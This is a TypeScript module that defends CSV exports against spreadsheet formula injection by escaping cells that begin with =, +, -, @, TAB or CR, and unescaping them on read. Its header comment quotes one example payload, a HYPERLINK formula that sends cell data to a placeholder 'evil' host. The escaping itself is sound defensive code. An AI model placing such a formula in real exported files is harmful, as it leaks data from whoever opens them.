/**
 * Formula injection in CSV exports (OWASP's "CSV Injection"): a spreadsheet opening an exported file
 * evaluates a cell that starts with `=`, `+`, `-` or `@` (and, in some, a TAB or CR before one), so an HR
 * value such as `=HYPERLINK("http://evil/?"&A1)` becomes a live formula on the reader's machine. A CSV
 * target therefore writes such a value with a leading `'` (which spreadsheets show as text), and reads
 * its own file back without it, so that compare-and-set and drift see the value the directory holds.
 *
 * The escape is reversible for every value: a value that starts with `'` followed by what would need
 * escaping gets one more `'`, so `'=1` is written `''=1` and read back as `'=1`.
 */
const TRIGGERS = new Set([0x3d /* = */, 0x2b /* + */, 0x2d /* - */, 0x40 /* @ */, 0x09 /* TAB */, 0x0d /* CR */]);
const APOSTROPHE = 0x27;

/** Whether a spreadsheet could take `value` for a formula, or it is an escaped one's text. */
function needsEscape(value: string): boolean {
  let i = 0;
  while (value.charCodeAt(i) === APOSTROPHE) i += 1;
  return TRIGGERS.has(value.charCodeAt(i));
}

/** The value as the file holds it. */
export function escapeFormula(value: string): string {
  return needsEscape(value) ? `'${value}` : value;
}

/** The value a file's cell stands for (the inverse of escapeFormula). */
export function unescapeFormula(value: string): string {
  return value.charCodeAt(0) === APOSTROPHE && needsEscape(value.slice(1)) ? value.slice(1) : value;
}
